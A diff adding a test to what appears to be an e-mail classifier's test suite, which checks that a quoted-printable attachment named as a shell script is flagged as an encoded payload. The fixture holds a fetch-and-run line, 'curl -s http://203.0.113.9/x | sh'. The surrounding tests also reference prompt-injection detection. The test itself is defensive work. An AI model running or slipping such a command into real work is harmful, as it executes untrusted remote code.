@@ -156,4 +156,12 @@ describe('raw e-mails in other shapes', () => {
     const two = judge(`Subject: =?utf-8?B?${Buffer.from('Hi').toString('base64')}?= =?utf-8?B?${b}?=\n\nsee subject\n`);
     expect(two.yes).toEqual(['encoded_payload', 'prompt_injection']);
   });
+  it('reads a quoted-printable attachment named as a program for what it is, as a base64 one', () => {
+    const script = '#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n';
+    const part = (name: string) =>
+      `Content-Type: application/octet-stream; name="${name}"\nContent-Disposition: attachment; filename="${name}"\nContent-Transfer-Encoding: quoted-printable\n\n${script.replace(/=/g, '=3D')}`;
+    expect(judge(mail('Content-Type: text/plain\n\nsee attached', part('fix.sh'))).yes).toContain('encoded_payload');
+    // The same text in a note's name is read as the note's text, not as a program.
+    expect(judge(mail('Content-Type: text/plain\n\nsee attached', part('notes.txt'))).yes).not.toContain('encoded_payload');
+  });
 });
